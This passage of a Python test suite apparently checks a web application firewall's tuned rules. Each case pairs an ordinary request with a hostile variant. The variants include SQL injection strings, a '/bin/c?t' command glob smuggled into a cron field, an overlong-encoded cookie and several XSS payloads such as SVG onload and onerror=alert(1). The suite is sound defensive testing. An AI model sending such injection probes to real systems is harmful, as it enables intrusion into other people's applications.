         {**attacks.BASE, "User-Agent": "Microsoft-CryptoAPI/10.0", "Cache-Control": "max-age = 52624, x=1"}),
     "10510"),
    ("10431: an error monitor's stack trace", "high-value",
     Req("POST", "/monitor/api/error", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"type": "js", "stack": _STACK}, ensure_ascii=False)),
     Req("POST", "/monitor/api/error", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"type": "js", "stack": "x'; drop table users; --\n" + _STACK.split("\n", 1)[1]})), "10431"),
    ("10450: an iOS crash log's load addresses", "strict",
     Req("POST", "/app/api/crash", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"platform": "ios", "stack": _IOS_CRASH})),
     Req("POST", "/app/api/crash", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"platform": "ios", "stack": _IOS_CRASH.replace("nil", "nil;")})), "10450"),
    ("10640: a face photo's base64 in a sign-in", "strict",
     Req("POST", "/nyjs/api/training/signin", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"classId": "PX2027031", "face": _FACE_B64})),
     Req("POST", "/nyjs/api/training/signin", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"classId": "PX2027031", "face": _FACE_B64 + "'"})), "10640"),
    ("10120: a passport's machine-readable zone", "strict",
     Req("POST", "/lxs/api/admission/apply", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"passport": {"surname": "Wisniewski", "mrz": _MRZ}})),
     Req("POST", "/lxs/api/admission/apply", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"passport": {"surname": "Wisniewski", "mrz": [_MRZ[0] + "<", _MRZ[1]]}})), "10120"),
    ("10200: a letter of credit's SWIFT text", "strict",
     Req("POST", "/swdesk/api/lc/review", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"lcNo": "LC53348545", "lcText": _MT700})),
     Req("POST", "/swdesk/api/lc/review", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"lcNo": "LC53348545", "lcText": _MT700 + ':79:SEE "NOTE"\r\n'})), "10200"),
    ("10660: a glossary's language pair", "strict",
     Req("POST", "/wb/fy/api/order/glossary", {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
         "orderNo=FY202701166864&pair=ko%3Ezh-CN&rows=2"),
     Req("POST", "/wb/fy/api/order/glossary", {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
         "orderNo=FY202701166864&pair=ko%3Ezh-CN%27&rows=2"), "10660"),
    ("10200: a Quartz cron expression", "strict",
     Req("POST", "/zzd/admin/api/job/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"jobName": "同步通讯录", "cron": "0 0/30 9-17 ? * MON-FRI"}, ensure_ascii=False)),
     Req("POST", "/zzd/admin/api/job/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"jobName": "同步通讯录", "cron": "0 0/30 9-17 ? * /bin/c?t"}, ensure_ascii=False)), "10200"),
    ("10440: a Unix cron step", "strict",
     Req("POST", "/zzd/admin/api/job/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"jobName": "日志 归档", "cron": "*/15 * * * *"}, ensure_ascii=False)),
     Req("POST", "/zzd/admin/api/job/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"jobName": "日志 归档", "cron": "*/15 * * * * /*"}, ensure_ascii=False)), "10440"),
    ("10460: a cron expression's run of fields", "high-value",
     Req("POST", "/zzd/admin/api/job/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"jobName": "数据 备份", "cron": "0 0/5 * * * ?"}, ensure_ascii=False)),
     Req("POST", "/zzd/admin/api/job/save", {**attacks.BASE, "Content-Type": "application/json"},
         json.dumps({"jobName": "数据 备份", "cron": "0 0/5 * * * ? ;"}, ensure_ascii=False)), "10460"),
    ("10660: a significance level in a reviewer's comment", "strict",
     Req("POST", "/ch/reviewer/api/submit", {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
         "gjbh=SDKX-2027-3696&yj=" + _q("3. 表 1 缺 显著性 标注（a, b, c 表示 p < 0.05）。") + "&jl=" + _q("小修")),
     Req("POST", "/ch/reviewer/api/submit", {**attacks.BASE, "Content-Type": "application/x-www-form-urlencoded"},
         "gjbh=SDKX-2027-3696&yj=" + _q("表 1（p < 0.05） or 1=1") + "&jl=" + _q("小修")), "10660"),
    ("10110: a string constraint that is one double-quoted code", "strict",
     Req("GET", "/erddap/tabledap/gdmb_buoy_hourly.csv?station,time&station=" + _q('"QF305"'), dict(attacks.BASE)),
     Req("GET", "/erddap/tabledap/gdmb_buoy_hourly.csv?station,time&station=" + _q('"QF305" or "1"'),
         dict(attacks.BASE)), "10110"),
    ("10273: an escape()-encoded search in a cookie", "high-value",
     Req("GET", "/jsearchfront/search.do?q=1", {**attacks.BASE, "Cookie": "_q=%u653F%u5E9C%u4FE1%u606F%3A"}),
     Req("GET", "/jsearchfront/search.do?q=1", {**attacks.BASE, "Cookie": "_q=%C0%AF"}), "10273"),
]


@pytest.mark.parametrize("case", DIAGNOSIS_CASES, ids=[c[0].split(":")[0] for c in DIAGNOSIS_CASES])
def test_diagnosis_fix_passes_its_case_and_still_reads_the_probe(tier: Tier, case: tuple) -> None:
    _, profile, ordinary, probe, rule = case
    reqs, ids = _tagged(as_citizens([ordinary, probe]))
    statuses = [send(tier.port, profile_host(profile), q, source=GATEWAY).status for q in reqs]
    audit = _audit_by_test_id(tier, ids[1:])
    assert statuses[0] == 200 and rule not in audit.get(ids[0], []), (ordinary, audit.get(ids[0]))
    assert rule in audit.get(ids[1], []), f"{rule} no longer fires on {probe}: {audit.get(ids[1])}"


# Stop 29 (corpus R tuning part): a value that is wholly base64, or a raster image's base64 data: URL, is not read
# by 941100/941120/941130/941170 (their copies 10710-10717); an SVG or HTML data: URL and markup still are.
_JPEG_B64 = ("data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAASABIAAD/2wBDAC5X1/ZH8w5Lk+ZJyrIdQYEDL7mlhuMVZTO+buJs+mjRFQA"
             "+unff4+LQhDo2HOWToaXSJUUlLGWfLSEqnwmWVLrAAGwfYjgaM9WLghWy+CRMzX6ZZSSOIh7IGOzBcqkTwe5VJrg3ocCWG4UvijGk=")
BASE64_PASS = [{"bmxh": "202708405596", "image": _JPEG_B64},
               {"code": "oOTkm8PX2OurILSM9z6Jkd9AILalpzY3", "iv": "XPwW/wh5C0GwKZ+ONAlHgg=="}]
BASE64_REFUSE = [{"image": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"},
                 {"image": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
                 {"iv": "XPwW/wh5C0GwKZ onmouseover=alert(1)"}, {"iv": "<img src=x onerror=alert(1)>"}]


@pytest.mark.parametrize("profile", BLOCKING)
def test_a_value_that_is_wholly_base64_is_not_read_as_markup(tier: Tier, profile: str) -> None:
    def post(body: dict) -> int:
        q = as_citizens([Req("POST", "/sydwzp/api/photo/crop", {**attacks.BASE, "Content-Type": "application/json"},
                             json.dumps(body))])[0]
        return send(tier.port, profile_host(profile), q, source=GATEWAY).status
    assert [post(b) for b in BASE64_PASS] == [200] * len(BASE64_PASS)
    assert [post(b) for b in BASE64_REFUSE] == [403] * len(BASE64_REFUSE)
